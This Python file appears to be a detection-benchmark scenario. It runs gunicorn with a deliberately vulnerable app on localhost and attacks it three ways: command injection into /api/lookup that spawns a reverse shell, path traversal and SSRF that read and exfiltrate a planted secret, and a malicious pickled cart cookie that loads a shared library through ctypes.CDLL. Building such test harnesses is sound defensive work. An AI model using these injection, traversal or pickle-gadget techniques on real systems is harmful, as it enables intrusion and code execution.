"""gunicorn (PyPI) running wsgi_app.py, a small web app with real bugs, under a paced
Python HTTP client. Attacks through the app's bugs (see wsgi_app.py):

- spawn: command injection into /api/lookup starts a reverse shell;
- in-thread: path traversal through /static/ reads the app's credentials, and an SSRF
  through /api/preview makes the worker connect to 127.0.0.1;
- code loading: a pickled cart cookie whose unpickling calls ctypes.CDLL(payload.so).
"""

from __future__ import annotations

import base64
import contextlib
import http.client
import pickle
import random
import shutil
import sys
import time
from pathlib import Path
from urllib.parse import quote

from benchmarks.scenarios.attacks import (
    CODE_LOADING,
    IN_THREAD,
    SPAWN,
    Attack,
    ExfilListener,
    Outcome,
    ShellCatcher,
    build_payload,
    plant_secret,
    reverse_shell_command,
    wait_for,
)
from benchmarks.scenarios.servers.base import (
    Daemon,
    PacedLoop,
    PacedServer,
    free_port,
    private_copy,
    wait_port,
)

RATE, CLIENTS, WORKERS = 30.0, 2, 2
APP = Path(__file__).with_name("wsgi_app.py")
CART = base64.b64encode(pickle.dumps({"part-3": 2, "part-7": 1})).decode()
MIX = (("/", 10), ("/api/items", 20), ("/api/items?id=3", 10), ("/api/items?id=99", 3),
       ("/static/logo.png", 10), ("/static/app.js", 10), ("/static/missing.css", 2),
       ("/api/lookup?host=localhost", 3), ("/api/lookup?host=ip6-localhost", 1),
       ("/api/cart", 8))


class _CDLL:
    """Pickles as a call of ctypes.CDLL(path): what an attacker's cookie holds."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        import ctypes
        return (ctypes.CDLL, (self.path,))


def gunicorn_path() -> str:
    beside = Path(sys.executable).with_name("gunicorn")
    found = str(beside) if beside.exists() else shutil.which("gunicorn")
    if not found:
        raise RuntimeError("gunicorn is not installed; run 'make install' (dev extra)")
    return found


class Gunicorn(PacedServer):
    name = "gunicorn"
    comm = "sgs-gunicorn"
    debian_packages = ()  # gunicorn comes from PyPI (the dev extra)
    load = f"Python HTTP client, {RATE:g} requests/s over {CLIENTS} clients ({len(MIX)} paths)"

    def __init__(self) -> None:
        super().__init__()
        self.paths = [p for p, w in MIX for _ in range(w)]

    def start(self, work: Path, budget_s: float) -> None:
        self.work = work
        (work / "static").mkdir(exist_ok=True)
        (work / "static" / "logo.png").write_bytes(bytes(range(256)) * 16)
        (work / "static" / "app.js").write_bytes(b"fetch('/api/items');\n" * 40)
        self.secret = plant_secret(work)
        self.payload = build_payload(work / "payload")
        shutil.copy(APP, work / "wsgi_app.py")
        self.port = free_port()
        env = {"PATH": "/usr/bin:/bin", "SG_APP_ROOT": str(work)}
        script = private_copy(gunicorn_path(), work, self.comm)
        self.server = Daemon([script, "--chdir", str(work), "-w", str(WORKERS),
                              "-b", f"127.0.0.1:{self.port}", "--user", "nobody", "--group",
                              "nogroup", "--worker-tmp-dir", "/dev/shm", "wsgi_app:app"],
                             work / "gunicorn.out", env=env).start()
        if not wait_port(self.port, 20, self.server.alive):
            raise RuntimeError(f"gunicorn did not start; see {work}/gunicorn.out")
        self.loop = PacedLoop(self._request, RATE, budget_s, workers=CLIENTS).start()

    def get(self, path: str, headers: dict | None = None) -> tuple[int, int, bytes]:
        """(status, worker pid, body)"""
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=15)
        try:
            conn.request("GET", path, headers=headers or {})
            r = conn.getresponse()
            return r.status, int(r.getheader("X-Worker", "0")), r.read()
        finally:
            conn.close()

    def _request(self) -> bool:
        path = random.choice(self.paths)
        headers = {"Cookie": f"cart={CART}"} if path == "/api/cart" else None
        return self.get(path, headers)[0] in (200, 404)

    def attacks(self) -> list[Attack]:
        return [
            Attack("lookup-injection-revshell", SPAWN,
                   "command injection into /api/lookup starts a reverse shell",
                   self._spawn, ("execve",)),
            Attack("traversal-and-ssrf", IN_THREAD,
                   "path traversal in /static/ reads the app's credentials; SSRF in "
                   "/api/preview connects to 127.0.0.1", self._in_thread, ("connect",)),
            Attack("pickle-cookie-cdll", CODE_LOADING,
                   "unpickling the cart cookie calls ctypes.CDLL(payload.so)",
                   self._code_loading, ("memfd_create",)),
        ]

    def _spawn(self) -> Outcome:
        with ShellCatcher() as catcher:
            host = quote("localhost; " + reverse_shell_command(catcher.port) + " &", safe="")
            begins = time.monotonic_ns()
            _, worker, _ = self.get(f"/api/lookup?host={host}")
            ok, evidence = catcher.result()
        return Outcome(worker, begins, begins, ok, evidence)

    def _in_thread(self) -> Outcome:
        relative = quote(f"../{self.secret.name}", safe="")
        with ExfilListener() as listener:
            begins = time.monotonic_ns()
            _, worker, body = self.get(f"/static/{relative}")
            url = quote(f"http://127.0.0.1:{listener.port}/exfil", safe="")
            # The listener answers no HTTP; the connect is what matters.
            with contextlib.suppress(OSError, http.client.HTTPException):
                self.get(f"/api/preview?url={url}")
            received = listener.wait()
        ok = b"SG-SCENARIO-SECRET" in body and received.startswith(b"GET /exfil")
        return Outcome(worker, begins, begins, ok,
                       f"secret in response: {b'SG-SCENARIO-SECRET' in body}; "
                       f"SSRF reached the listener: {received.startswith(b'GET /exfil')}")

    def _code_loading(self) -> Outcome:
        before = self.payload.loads()
        cookie = base64.b64encode(pickle.dumps(_CDLL(str(self.payload.path)))).decode()
        begins = time.monotonic_ns()
        try:
            _, worker, _ = self.get("/api/cart", {"Cookie": f"cart={cookie}"})
        except (OSError, http.client.HTTPException):
            worker = 0
        ok = wait_for(lambda: self.payload.loads() > before, 5)
        # The worker's reply is a 500 without its name; the payload's mark names it.
        worker = worker or self.payload.last_pid() or self.server_pid
        return Outcome(worker, begins, begins, ok,
                       "payload constructor ran in a worker" if ok else "no mark")


    def version(self) -> str:
        import gunicorn
        return f"gunicorn {gunicorn.__version__}"
